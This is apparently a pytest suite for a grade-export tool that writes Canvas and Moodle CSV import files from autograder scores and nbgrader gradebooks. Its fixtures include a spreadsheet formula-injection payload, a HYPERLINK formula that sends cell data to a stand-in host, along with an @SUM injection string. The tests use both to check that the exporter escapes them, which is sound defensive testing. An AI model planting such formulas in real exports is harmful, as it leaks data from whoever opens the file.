"""`dlkit export`: grades.csv (and nbgrader's manual scores) in the layouts Canvas and Moodle import."""

from __future__ import annotations

import csv
import io
import os
import re
import sys
from pathlib import Path

import pytest

from autograder.cli import main
from autograder.export.grades import max_points
from autograder.grading.results import grades_csv
from autograder.syllabus import ASSIGNMENTS

FOLDERS = [a.folder for a in ASSIGNMENTS]
FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"click")'


def row(student: str, **scores: float) -> dict:
    full = {a: scores.get(a, 0.0) for a in FOLDERS}
    return {"student": student, "scores": full, "total": sum(full.values()), "max_total": 137.0}


@pytest.fixture
def out_dir(tmp_path: Path) -> Path:
    """A `dlkit grade --out` folder's grades.csv, as grades_csv writes it."""
    rows = [row("ada", **{"01_perceptron": 22.0, "02_activations": 2 + 2 / 3}),
            row("ben", **{"02_activations": 0.1 + 0.2, "07_torch_mlp": 23.0}),
            row(FORMULA, **{"03_mlp": 1e-7})]
    (tmp_path / "grades.csv").write_text(grades_csv(rows), newline="")
    return tmp_path


@pytest.fixture
def roster(tmp_path: Path) -> Path:
    path = tmp_path / "roster.csv"
    path.write_text(" Student ,Name,Email,Canvas_ID,SIS_ID,Login,Section,Username,IDNumber,Phone\n"
                    "ada,\"Lovelace, Ada\",ada@uni.example,1001,S-1,alovelace,Sec A,alove,ID-1,555\n"
                    "ben,@SUM(A1:A9),ben@uni.example,1002,S-2,bbabbage,Sec B,,,\n"
                    "cleo,\"Cleo, Never\",cleo@uni.example,1003,S-3,cleo,Sec A,,,\n")
    return path


def export(args: list[str]) -> tuple[list[list[str]], str]:
    assert main(["export", *args]) == 0
    text = Path(args[args.index("--out") + 1]).read_bytes().decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""))), text


def canvas_import(table: list[list[str]]) -> tuple[list[str], dict[str, str], list[list[str]]]:
    """The file as Canvas's GradebookImporter (app/models/gradebook_importer.rb) reads it: the
    header must match /Student/, /ID/, /SIS User ID/, /SIS Login ID/ and, as the last student
    column, /Section/; a row whose first cell matches /Points Possible/ sets the points; every
    other row is a student. Returns (assignment titles, points possible, student rows)."""
    header, *rows = table
    assert len(header) > 3 and re.search("Student", header[0]) and re.search("ID", header[1])
    assert re.search(r"SIS\s+User\s+ID", header[2]) and re.search(r"SIS\s+Login\s+ID", header[3])
    student_columns = 5
    assert re.search("Section", header[student_columns - 1])
    titles = header[student_columns:]
    possible: dict[str, str] = {}
    students = []
    for row in rows:
        if re.search("Points Possible", row[0]):
            possible = dict(zip(titles, row[student_columns:]))
            continue
        students.append(row)
    return titles, possible, students


def cells(**scores: str) -> list[str]:
    """The score cells of one row, "0" where the assignment is not named."""
    return [scores.get(f, "0") for f in FOLDERS]


def plain_points(value: float) -> str:
    return str(int(value)) if float(value).is_integer() else str(value)


def test_canvas_layout(out_dir: Path, roster: Path, tmp_path: Path, capsys):
    table, text = export(["--format", "canvas", str(out_dir), "--roster", str(roster), "--out", str(tmp_path / "c.csv")])
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", *FOLDERS]
    maxima = max_points()
    assert table[1] == ["Points Possible", "", "", "", "", *[plain_points(maxima[f]) for f in FOLDERS]]
    assert all(float(v) > 0 for v in table[1][5:])
    # students in grades.csv's order (by id); names from the roster; 2 decimals, written plainly
    assert table[2] == ["'" + FORMULA, "", "", "", "", *cells()]
    assert table[3] == ["Lovelace, Ada", "1001", "S-1", "alovelace", "Sec A",
                        *cells(**{"01_perceptron": "22", "02_activations": "2.67"})]
    assert table[4] == ["'@SUM(A1:A9)", "1002", "S-2", "bbabbage", "Sec B",
                        *cells(**{"02_activations": "0.3", "07_torch_mlp": "23"})]
    assert len(table) == 5 and text.endswith("\r\n") and text.count("\r\n") == text.count("\n") == 5
    titles, possible, students = canvas_import(table)
    assert titles == FOLDERS and possible == dict(zip(FOLDERS, table[1][5:])) and len(students) == 3
    notes = capsys.readouterr().err
    assert "not in the roster" in notes and "HYPERLINK" in notes and "cleo" in notes


def test_moodle_layout(out_dir: Path, roster: Path, tmp_path: Path):
    table, _ = export(["--format", "moodle", str(out_dir / "grades.csv"), "--roster", str(roster),
                       "--out", str(tmp_path / "m.csv")])
    assert table[0] == ["Email address", "ID number", "Username", *FOLDERS]
    assert table[1] == ["", "", "'" + FORMULA, *cells()]
    assert table[2] == ["ada@uni.example", "ID-1", "alove", *cells(**{"01_perceptron": "22", "02_activations": "2.67"})]
    assert table[3] == ["ben@uni.example", "S-2", "ben",
                        *cells(**{"02_activations": "0.3", "07_torch_mlp": "23"})]  # sis_id, dlkit id
    assert len(table) == 4  # no points-possible row: Moodle's grade items carry their maximum
    # Moodle's CSV import (grade/import/csv/classes/load_data.php) skips a row whose mapped user
    # field is blank and reads each grade with unformat_float: Username is never blank
    assert all(r[2] for r in table[1:]) and all(float(v) >= 0 for r in table[1:] for v in r[3:])


def test_plain_csv_without_roster(out_dir: Path, tmp_path: Path):
    table, _ = export(["--format", "csv", str(out_dir), "--out", str(tmp_path / "p.csv")])
    assert table[0] == ["student", "name", "email", "sis_id", *FOLDERS, "total", "max_total"]
    total = plain_points(sum(max_points().values()))
    assert table[2] == ["ada", "", "", "", *cells(**{"01_perceptron": "22", "02_activations": "2.67"}), "24.67", total]


def test_default_output_is_beside_grades_csv(out_dir: Path):
    assert main(["export", "--format", "canvas", str(out_dir)]) == 0
    assert (out_dir / "grades-canvas.csv").read_text().startswith("Student,ID,")


def test_not_grades_csv_is_refused(tmp_path: Path, capsys):
    (tmp_path / "grades.csv").write_text("name,score\nada,3\n")
    assert main(["export", "--format", "canvas", str(tmp_path), "--out", str(tmp_path / "x.csv")]) == 1
    assert "header" in capsys.readouterr().err and not (tmp_path / "x.csv").exists()


@pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # nbgrader's own add_submission
def test_manual_scores_from_nbgraders_gradebook(out_dir: Path, tmp_path: Path, monkeypatch):
    """Written answers graded by hand in formgrader are added; autograded cells are not (the
    sandboxed score of grades.csv stands for them)."""
    from nbgrader.api import Gradebook

    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")  # nbgrader runs `alembic`

    db = tmp_path / "gradebook.db"
    with Gradebook(f"sqlite:///{db}") as gb:
        gb.add_assignment("02_activations")
        gb.add_notebook("activations", "02_activations")
        gb.add_solution_cell("q_softmax_shift", "activations", "02_activations")
        gb.add_grade_cell("q_softmax_shift", "activations", "02_activations", max_score=1.0, cell_type="markdown")
        gb.add_solution_cell("q_vanishing_gradient", "activations", "02_activations")
        gb.add_grade_cell("q_vanishing_gradient", "activations", "02_activations", max_score=2.0,
                          cell_type="markdown")
        gb.add_grade_cell("test_sigmoid", "activations", "02_activations", max_score=3.0, cell_type="code")
        for student in ("ada", "ben"):
            gb.add_student(student)
            gb.add_submission("02_activations", student)
        for cell, student, score in [("q_vanishing_gradient", "ada", 1.5), ("q_softmax_shift", "ada", 1.0),
                                     ("test_sigmoid", "ada", 3.0), ("test_sigmoid", "ben", 3.0)]:
            grade = gb.find_grade(cell, "activations", "02_activations", student)
            if cell.startswith("test_"):
                grade.auto_score = score
            else:
                grade.manual_score = score
        gb.db.commit()
    table, _ = export(["--format", "canvas", str(out_dir), "--gradebook", str(tmp_path), "--out", str(tmp_path / "g.csv")])
    a02, a01 = 5 + FOLDERS.index("02_activations"), 5 + FOLDERS.index("01_perceptron")
    assert table[1][a02] == plain_points(max_points()["02_activations"] + 3)  # + the two written answers
    assert table[1][a01] == plain_points(max_points()["01_perceptron"])  # not in the gradebook: unchanged
    assert table[3][0] == "ada" and table[3][a02] == "5.17"  # 2.67 + 1.5 + 1; the autograded 3 is not added
    assert table[4][0] == "ben" and table[4][a02] == "0.3"  # ungraded written answers add nothing
